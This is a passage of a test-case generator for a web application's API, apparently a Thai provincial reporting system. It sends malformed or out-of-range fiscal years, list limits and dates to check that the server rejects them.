  }
  for (const year of [
    '99999',
    'abc',
    '%E0%B9%92%E0%B9%95%E0%B9%96%E0%B9%99',
    'NaN',
    'Infinity',
    '1e3',
    '-2569',
    '2569.0.1',
  ]) {
    add('number out of range', `OIT fiscal year in the address: ${decodeURIComponent(year)}`, (w) =>
      send(w, 'admin', 'GET', `/api/oit/${w.province.id}/${year}`),
    );
  }
  for (const limit of ['-1', '0', '100000', 'abc', '1e309']) {
    add('number out of range', `results list limit ${limit}`, (w) =>
      send(w, 'admin', 'GET', `/api/assessments?limit=${limit}`),
    );
  }

  // --- Dates out of range -------------------------------------------------------------------
  const dates = [
    '1900-01-01',
    '9999-12-31',
    '2025-02-30',
    '2025-13-01',
    '2025-00-10',
    '+275760-09-13',
    '0000-00-00',
    '2025-1-1',
    '๒๕๖๘-๐๑-๐๑',
    '2568-01-01',
    '2025-01-01T00:00:00Z',
    'yesterday',
  ];
  for (const date of dates) {
    add('date out of range', `report activityStart ${date}`, (w) =>
      send(w, 'reporter', 'PUT', `/api/reports/${w.slotId}`, report({ activityStart: date })),
    );
  }
  for (const date of ['2099-01-01', '1957-01-01', '2025-02-29', 'x']) {
    add('date out of range', `round due date ${date}`, (w) =>
      send(w, 'admin', 'POST', '/api/rounds', {
        planId: w.circulatedPlanId,
        kind: 'custom',
        labelTh: 'รอบ',
        dueDate: date,
      }),
    );
  }
  // Refused by the request's schema, before anyone's right to approve is looked at.
  for (const date of ['2099-01-01', '2025-02-29', '2025-13-01', 'x']) {
    add('date out of range', `plan approval memo date ${date}`, (w) =>
      send(w, 'admin', 'POST', `/api/plans/${w.draftPlan.id}/decision`, {
        decision: 'approve',
        rowVersion: w.draftPlan.rowVersion,
        memoNumber: 'ที่ ๑/๒๕๖๘',
        memoDate: date,
      }),
    );
  }
  add('date out of range', 'report paper reference dated in the future', (w) =>
    send(
      w,
      'reporter',
      'PUT',
      `/api/reports/${w.slotId}`,
      report({ paperRefs: [{ kind: 'คำสั่ง', number: '๑/๒๕๙๙', date: '2099-01-01' }] }),
    ),
  );
  add('date out of range', 'report activity ends before it starts', (w) =>
    send(
      w,
      'reporter',
      'PUT',
      `/api/reports/${w.slotId}`,
      report({ activityStart: '2024-03-01', activityEnd: '2024-01-01' }),
    ),
  );
  return cases;
}

export { bodyOf };
